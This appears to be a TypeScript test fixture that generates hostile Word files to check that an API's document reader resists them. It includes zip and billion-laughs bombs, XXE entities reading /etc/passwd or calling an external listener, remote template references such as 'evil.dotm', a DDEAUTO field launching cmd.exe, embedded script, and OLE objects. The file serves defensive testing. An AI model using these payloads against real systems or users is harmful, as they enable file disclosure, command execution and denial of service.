import { makeDoc } from "../../../../apps/api/test/support/bad-files/make-documents.ts";
import { makeZip, type ZipEntry } from "../../../../apps/api/test/support/bad-files/make-zip.ts";
import { inventCv } from "../adversarial/cv.ts";
import { namespaces, paragraph, run, wordCv, wordParts, zipParts, type WordFile } from "../adversarial/write-docx.ts";
import { malformedOutcomes, harmless, heavy, noise, type HostileFile } from "./hostile.ts";

const mb = 1_048_576;
const resume = (change: (word: WordFile) => void = () => {}): Record<string, string | Buffer> => {
  const { word } = wordCv(inventCv(4_100, "it"));
  change(word);
  return wordParts(word);
};
const zipped = (parts: Record<string, string | Buffer>, more: readonly ZipEntry[] = []): Buffer =>
  makeZip([...Object.entries(parts).map(([name, data]) => ({ name, data: Buffer.from(data) })), ...more]);

const withMain = (xml: string | Buffer) => () => zipParts({ ...resume(), "word/document.xml": xml });
const bodyOf = (inner: string, before = ""): string =>
  `<?xml version="1.0"?>${before}<w:document ${namespaces}><w:body>${inner}</w:body></w:document>`;

const laughs = Array.from({ length: 12 }, (_, level) =>
  level === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`,
).join("");
const entity = (declared: string, name: string) =>
  bodyOf(`<w:p><w:r><w:t>Giulia Ferraris &${name};</w:t></w:r></w:p>`, `<!DOCTYPE w [${declared}]>`);

const nested = (tag: string, depth: number, inner: string) =>
  `<w:${tag}>`.repeat(depth) + inner + `</w:${tag}>`.repeat(depth);
const tables = (depth: number) =>
  "<w:tbl><w:tr><w:tc>".repeat(depth) +
  paragraph(run("Giulia")) +
  `</w:tc></w:tr></w:tbl>${paragraph("")}`.repeat(depth);

const overlapping = (): Buffer => {
  const data = noise(200_000);
  const claims = { packed: data.length, unpacked: data.length, offset: 0 };
  const more = Array.from({ length: 1_500 }, (_, n) => ({
    name: `word/media/${n}.png`,
    data: Buffer.alloc(0),
    claims,
  }));
  return zipped(resume(), [{ name: "word/media/a.png", data }, ...more]);
};

const packedPage = (xml: string) => zipped(resume((word) => void word.body.push(xml)));

/** References in a Word file that Word would fetch or run; our reader must ignore them. */
const calling = (listener: string) =>
  zipParts({
    ...resume((word) => {
      word.relations.push(
        { id: "rIdT", kind: "attachedTemplate", target: `${listener}/template.dotm`, outside: true },
        { id: "rIdI", kind: "image", target: `${listener}/picture.png`, outside: true },
        { id: "rIdA", kind: "aFChunk", target: `${listener}/chunk.html`, outside: true },
        { id: "rIdH", kind: "hyperlink", target: `${listener}/link`, outside: true },
        { id: "rIdF", kind: "frame", target: `${listener}/frame.htm`, outside: true },
        { id: "rIdS", kind: "settings", target: "settings.xml" },
      );
      word.parts["word/settings.xml"] = `<w:settings ${namespaces}><w:attachedTemplate r:id="rId1"/></w:settings>`;
      word.parts["word/_rels/settings.xml.rels"] =
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${listener}/evil.dotm" TargetMode="External"/></Relationships>`;
      word.body.push(
        '<w:altChunk r:id="rIdA"/>',
        paragraph(
          `<w:r><w:drawing><wp:inline><wp:docPr id="1" name="p"/><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="rIdI"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`,
        ),
        paragraph(`<w:r><w:instrText>INCLUDEPICTURE "${listener}/field.png"</w:instrText></w:r>`),
        paragraph(`<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>`),
      );
    }),
  });

const chunk = () =>
  zipParts(
    resume((word) => {
      word.parts["word/chunk.html"] = "<html><script>alert(1)</script><p>Zanzibar</p></html>";
      word.relations.push({ id: "rIdA", kind: "aFChunk", target: "chunk.html" });
      word.body.push('<w:altChunk r:id="rIdA"/>');
    }),
  );

const withObject = () =>
  zipParts(
    resume((word) => {
      word.parts["word/embeddings/oleObject1.bin"] = makeDoc({ stream: "Package" });
      word.relations.push({ id: "rIdO", kind: "oleObject", target: "embeddings/oleObject1.bin" });
      word.body.push(
        paragraph('<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdO"/></w:object></w:r>'),
      );
    }),
  );

const loopedStyles = () =>
  zipParts(
    resume((word) => {
      word.styles +=
        '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style><w:style w:type="character" w:styleId="C"><w:basedOn w:val="C"/></w:style>';
      word.body.push(paragraph(run("Vela Logistica", '<w:rStyle w:val="C"/>'), '<w:pStyle w:val="A"/>'));
    }),
  );

const without = (name: string) => {
  const parts = resume();
  delete parts[name];
  return zipParts(parts);
};

export const wordFiles: HostileFile[] = [
  { name: "Word: an ordinary resume", bytes: () => zipParts(resume()), may: harmless },
  { name: "Word: an ordinary resume, zipped by our own code", bytes: () => zipped(resume()), may: harmless },
  {
    name: "Word: a part of 200 MB",
    bytes: () => zipped(resume(), [{ name: "word/a.xml", data: Buffer.alloc(200 * mb, " ") }]),
    may: heavy,
  },
  {
    name: "Word: a document of 50 MB compressed to 50 KB",
    bytes: () => packedPage(`<!--${" ".repeat(50 * mb)}-->`),
    may: heavy,
  },
  {
    name: "Word: a large document that claims to be small",
    bytes: () =>
      zipped(
        {},
        Object.entries(resume()).map(([name, data]) => ({
          name,
          data: name.endsWith("document.xml")
            ? Buffer.from(String(data).replace("<w:body>", `<w:body>${" ".repeat(40 * mb)}`))
            : Buffer.from(data),
          claims: { unpacked: 900 },
        })),
      ),
    may: heavy,
  },
  {
    name: "Word: 20,000 parts",
    bytes: () =>
      zipped(
        resume(),
        Array.from({ length: 20_000 }, (_, n) => ({ name: `${n}`, data: Buffer.alloc(0) })),
      ),
    may: heavy,
  },
  { name: "Word: parts that share their bytes", bytes: overlapping, may: heavy },
  {
    name: "Word: an embedded Word file with a decompression bomb",
    bytes: async () =>
      zipParts({
        ...resume(),
        "word/embeddings/a.docx": zipped(resume(), [{ name: "a", data: Buffer.alloc(100 * mb) }]),
      }),
    may: ["read", ...heavy],
  },
  { name: "Word: exponential entity expansion (billion laughs)", bytes: withMain(entity(laughs, "l11")), may: heavy },
  {
    name: "Word: one long entity, repeated 50,000 times",
    bytes: withMain(entity(`<!ENTITY a "${"ha".repeat(30_000)}">`, "a").replace("&a;", "&a;".repeat(50_000))),
    may: heavy,
  },
  {
    name: "Word: entities that contain each other",
    bytes: withMain(entity('<!ENTITY a "&b;"><!ENTITY b "&a;">', "a")),
    may: heavy,
  },
  {
    name: "Word: an entity that reads a local file",
    bytes: withMain(entity('<!ENTITY a SYSTEM "file:///etc/passwd">', "a")),
    may: [...heavy, "noText"],
  },
  {
    name: "Word: an external entity",
    bytes: (listener) =>
      withMain(entity(`<!ENTITY a SYSTEM "${listener}/entity"><!ENTITY % b SYSTEM "${listener}/dtd"> %b;`, "a"))(),
    may: [...heavy, "noText"],
  },
  {
    name: "Word: an external document type",
    bytes: (listener) =>
      withMain(bodyOf(paragraph(run("Giulia Ferraris")), `<!DOCTYPE w SYSTEM "${listener}/w.dtd">`))(),
    may: ["read", ...heavy],
  },
  { name: "Word: elements nested 100,000 deep", bytes: withMain(bodyOf(nested("ins", 100_000, "x"))), may: heavy },
  { name: "Word: tables nested 2,000 deep", bytes: withMain(bodyOf(tables(2_000))), may: ["read", ...heavy] },
  {
    name: "Word: an attribute of 3 MB",
    bytes: withMain(
      bodyOf(
        paragraph(
          run("Giulia Ferraris, analista dati a Torino"),
          `<w:jc w:val="${noise(1_500_000).toString("hex")}"/>`,
        ),
      ),
    ),
    may: ["read", ...heavy],
  },
  {
    name: "Word: 200,000 attributes",
    bytes: withMain(
      bodyOf(`<w:p ${Array.from({ length: 200_000 }, (_, n) => `a${n}="${n}"`).join(" ")}>${run("Giulia")}</w:p>`),
    ),
    may: ["read", ...heavy],
  },
  {
    name: "Word: 400,000 paragraphs",
    bytes: withMain(bodyOf(Array.from({ length: 400_000 }, (_, n) => paragraph(run(`Riga ${n * 7_919}`))).join(""))),
    may: ["read", ...heavy],
  },
  {
    name: "Word: a table of 300,000 cells",
    bytes: withMain(
      bodyOf(
        `<w:tbl>${`<w:tr>${`<w:tc>${paragraph(run("Giulia"))}</w:tc>`.repeat(300)}</w:tr>`.repeat(1_000)}</w:tbl>`,
      ),
    ),
    may: ["read", ...heavy],
  },
  { name: "Word: external templates, pictures and fields", bytes: calling, may: ["read", "unsupported"] },
  { name: "Word: an embedded web page", bytes: chunk, may: harmless },
  { name: "Word: an embedded object", bytes: withObject, may: harmless },
  {
    name: "Word: macros",
    bytes: () => zipParts({ ...resume(), "word/vbaProject.bin": noise(5_000) }),
    may: ["read", "unsupported"],
  },
  { name: "Word: styles that are based on themselves", bytes: loopedStyles, may: ["read", "damaged"] },
  {
    name: "Word: a file without a document part",
    bytes: () => without("word/document.xml"),
    may: ["damaged", "unsupported"],
  },
  {
    name: "Word: a file without relations",
    bytes: () => without("_rels/.rels"),
    may: ["read", "damaged", "unsupported"],
  },
  { name: "Word: random bytes as the document part", bytes: withMain(noise(100_000)), may: malformedOutcomes },
  {
    name: "Word: a truncated document part",
    bytes: withMain(String(resume()["word/document.xml"]).slice(0, 2_000)),
    may: malformedOutcomes,
  },
  { name: "Word: an empty document", bytes: withMain(bodyOf("")), may: ["noText"] },
];
